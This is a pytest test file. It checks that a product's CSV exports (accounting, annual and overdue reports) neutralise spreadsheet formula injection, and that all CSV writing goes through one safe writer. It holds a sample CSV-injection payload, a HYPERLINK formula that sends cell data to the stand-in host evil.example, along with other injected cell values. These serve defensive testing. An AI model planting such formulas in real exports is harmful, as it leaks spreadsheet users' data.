"""Every CSV the product writes goes through the one safe writer, so no cell runs as a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest

import portcullis
from portcullis.aftercare.overdue import RECALLED, OverdueDisposal, write_overdue_csv
from portcullis.contract.spreadsheet import FORMULA_STARTS, neutralise, safe_csv_writer
from portcullis.reports.accounting import write_accounting_csv
from portcullis.reports.annual import annual_report, write_annual_csv
from tests.reports.conftest import make_row

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'
SOURCE = Path(portcullis.__file__).parent
# The only module that may make a csv writer: the one that makes its cells safe.
SAFE_WRITER = SOURCE / "contract" / "spreadsheet.py"
# Synthetic input files (request files and ground truth for the demo and the benchmarks) are data
# that the gateway reads back byte for byte, not exports for a person's spreadsheet.
NOT_EXPORTS = frozenset({SOURCE / "synth" / "writing.py"})
CSV_WRITING = re.compile(
    r"csv\.writer\(|csv\.DictWriter\(|write_csv\(|\.to_csv\(|COPY .* TO .*(FORMAT\s+csv|\.csv)",
    re.IGNORECASE,
)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def read_dicts(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_written_inert(start: str) -> None:
    out = io.StringIO()
    safe_csv_writer(out).writerow([f"{start}1+1", "plain", 7])
    assert cells(out.getvalue()) == [[f"'{start}1+1", "plain", "7"]]


def test_a_number_and_an_ordinary_text_are_left_alone() -> None:
    assert neutralise(-3) == -3
    assert neutralise("12 Elm St") == "12 Elm St"


def test_the_accounting_export_writes_a_formula_item_id_inert(tmp_path: Path) -> None:
    path = tmp_path / "accounting.csv"
    write_accounting_csv([make_row(item_id=HOSTILE, street="@SUM(A1)")], path)
    [row] = read_dicts(path)
    assert row["item_id"] == "'" + HOSTILE
    assert row["street"] == "'@SUM(A1)"
    assert row["city"] == "Springfield"


def test_the_annual_report_writes_a_formula_agency_inert(tmp_path: Path) -> None:
    path = tmp_path / "annual.csv"
    rows = [make_row(requesting_agency=HOSTILE, program_id="+cmd")]
    write_annual_csv(annual_report(rows, 2025), path)
    written = read_dicts(path)
    assert written[0]["requesting_agency"] == "'" + HOSTILE
    assert written[0]["program_id"] == "'+cmd"


def test_the_overdue_disposals_write_a_formula_item_id_inert(tmp_path: Path) -> None:
    path = tmp_path / "overdue.csv"
    late = OverdueDisposal(
        request_id="R1",
        row=1,
        item_id=HOSTILE,
        requesting_agency="ICE",
        program_id="ice-address-verification",
        released_at=dt.datetime(2025, 5, 1, 12, 0, tzinfo=dt.UTC),
        retention_until=dt.date(2025, 6, 1),
        recalled_at=dt.datetime(2025, 5, 2, 12, 0, tzinfo=dt.UTC),
        recall_reason="-wrong person",
        why=RECALLED,
        due=dt.date(2025, 5, 12),
        days_overdue=3,
    )
    assert write_overdue_csv([late], path) == 1
    [row] = read_dicts(path)
    assert row["item_id"] == "'" + HOSTILE
    assert row["recall_reason"] == "'-wrong person"


def test_no_module_writes_csv_but_through_the_safe_writer() -> None:
    offenders = [
        f"{path.relative_to(SOURCE)}:{number}"
        for path in sorted(SOURCE.rglob("*.py"))
        if path != SAFE_WRITER and path not in NOT_EXPORTS
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if CSV_WRITING.search(line)
    ]
    assert offenders == []


def test_the_guard_sees_a_csv_writer() -> None:
    # The pattern the guard above relies on does find the ways a module could write CSV.
    for line in (
        "w = csv.writer(h)",
        "csv.DictWriter(h, f)",
        "pacsv.write_csv(t, p)",
        "COPY (SELECT a FROM t) TO 'out.csv'",
        "COPY t TO 'out' (FORMAT csv)",
    ):
        assert CSV_WRITING.search(line)
    assert not CSV_WRITING.search("COPY (SELECT a FROM t) TO 'm.parquet' (FORMAT parquet)")


def test_a_carriage_return_inside_a_cell_is_quoted_and_rows_end_in_a_newline() -> None:
    out = io.StringIO()
    writer = safe_csv_writer(out)
    writer.writerow(["a\rb", "c\nd", 'say "hi"'])
    writer.writerow(["next"])
    assert out.getvalue() == '"a\rb","c\nd","say ""hi"""\nnext\n'
    assert cells(out.getvalue()) == [["a\rb", "c\nd", 'say "hi"'], ["next"]]
